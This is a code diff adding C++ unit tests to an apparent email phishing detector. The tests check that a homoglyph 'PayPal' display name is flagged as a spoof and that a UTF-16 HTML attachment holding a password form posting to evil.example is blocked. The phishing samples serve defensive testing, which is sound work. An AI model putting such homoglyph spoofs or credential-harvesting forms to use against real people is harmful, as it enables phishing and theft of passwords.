@@ -8,6 +8,7 @@
 #include <string>
 #include <vector>
 
+#include "absl/strings/escaping.h"
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_join.h"
 #include "absl/strings/str_split.h"
@@ -265,6 +266,46 @@ TEST_F(MessageCheckerTest, DisplayNameNamingTheTenantFromOutsideIsASpoof) {
   ASSERT_NE(name, nullptr);
   EXPECT_EQ(name->brand, "Acme Logistics");
   EXPECT_EQ(name->part, "From");
+}
+
+TEST_F(MessageCheckerTest, DisplayNameWithLookAlikeLettersIsASpoof) {
+  // "PаyPal" with a Cyrillic а, from a free-mail account.
+  const MessageCheck check = Check(
+      "From: =?utf-8?b?UNCweVBhbCBTZXJ2aWNl?= <pp.service@outlook.com>\r\n"
+      "Subject: x\r\n\r\nhi\r\n");
+  EXPECT_EQ(check.sender.from_display_name, "P\xD0\xB0yPal Service");
+  const Reason* name = Find(check.verdict, ReasonCode::kMailDisplayNameSpoof);
+  ASSERT_NE(name, nullptr);
+  EXPECT_EQ(name->brand, "PayPal");
+  EXPECT_EQ(name->technique, "brand-name,free-mail");
+  EXPECT_EQ(check.verdict.action, Action::kWarn);
+}
+
+TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
+  // The campaign's page in UTF-16LE with a byte-order mark, sent as a
+  // generic octet-stream with no telling file name.
+  const std::string page =
+      "<html><body><form action=\"https://evil.example/p\">"
+      "<input type=password name=pw></form></body></html>";
+  std::string utf16 = "\xFF\xFE";
+  for (char c : page) {
+    utf16.push_back(c);
+    utf16.push_back('\0');
+  }
+  const std::string message = absl::StrCat(
+      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
+      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
+      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
+      "Content-Type: application/octet-stream\r\n"
+      "Content-Disposition: attachment; filename=\"scan\"\r\n"
+      "Content-Transfer-Encoding: base64\r\n\r\n",
+      absl::Base64Escape(utf16), "\r\n--x--\r\n");
+  const MessageCheck check = Check(message);
+  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
+  ASSERT_NE(form, nullptr);
+  EXPECT_EQ(form->part, "2");
+  EXPECT_EQ(form->url, "https://evil.example/p");
+  EXPECT_EQ(check.verdict.action, Action::kBlock);
 }
 
 TEST_F(MessageCheckerTest, TrustedDmarcFailOnABrandDomainBlocks) {
